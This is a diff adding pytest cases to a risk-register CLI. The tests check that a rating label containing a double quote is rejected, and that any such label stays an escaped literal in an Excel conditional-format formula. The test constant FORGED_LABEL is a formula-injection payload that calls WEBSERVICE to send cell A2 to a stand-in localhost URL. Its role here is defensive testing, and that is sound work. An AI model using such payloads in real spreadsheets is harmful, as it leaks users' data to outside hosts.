@@ -178,3 +178,38 @@ def test_no_command_writes_csv(tmp_path, risky_inputs):
     invoke("portfolio", risky_inputs, "-q", MINI, "-o", out / "portfolio.xlsx")
     written = {p.suffix for p in out.rglob("*") if p.is_file()}
     assert written <= {".xlsx", ".yaml"}, written
+
+
+FORGED_LABEL = 'High"&WEBSERVICE("http://127.0.0.1/?"&A2)&"'
+
+
+def test_validate_refuses_a_rating_label_that_would_break_out_of_the_colour_rule(tmp_path):
+    """A rating label goes into the register's conditional-format formula: a quote in it is refused."""
+    text = MINI.read_text(encoding="utf-8")
+    old = "{id: high, label: High,"
+    assert old in text
+    path = tmp_path / "forged.yaml"
+    path.write_text(text.replace(old, "{id: high, label: " + yaml.safe_dump(FORGED_LABEL, default_style="'").strip()
+                                 .removesuffix("...").strip() + ",", 1), encoding="utf-8")
+    for command in (("validate", path), ("template", "-q", path, "-o", tmp_path / "t.xlsx")):
+        result, _ = invoke(*command)
+        assert result.exit_code == 2, result.output
+        assert "rating label" in result.stderr and "double quote" in result.stderr
+        assert "Traceback" not in result.output
+    assert not (tmp_path / "t.xlsx").exists()
+
+
+def test_a_quote_in_a_rating_label_stays_inside_the_formula_string(tmp_path):
+    """Belt and braces: even a label that got past validation is one string literal in the rule."""
+    from types import SimpleNamespace
+
+    from risk_cli.writers.xlsx import rating_formats
+
+    wb = openpyxl.Workbook()
+    rating_formats(wb.active, "A1:A9", [SimpleNamespace(label=FORGED_LABEL, colour="FF0000")])
+    wb.save(tmp_path / "cf.xlsx")
+    rules = [rule for cf in openpyxl.load_workbook(tmp_path / "cf.xlsx").active.conditional_formatting for rule in cf.rules]
+    (formula,) = rules[0].formula
+    assert formula == '"' + FORGED_LABEL.replace('"', '""') + '"'
+    # outside the doubled quotes nothing is left: the whole formula is one literal
+    assert formula[0] == formula[-1] == '"' and '"' not in formula[1:-1].replace('""', "")
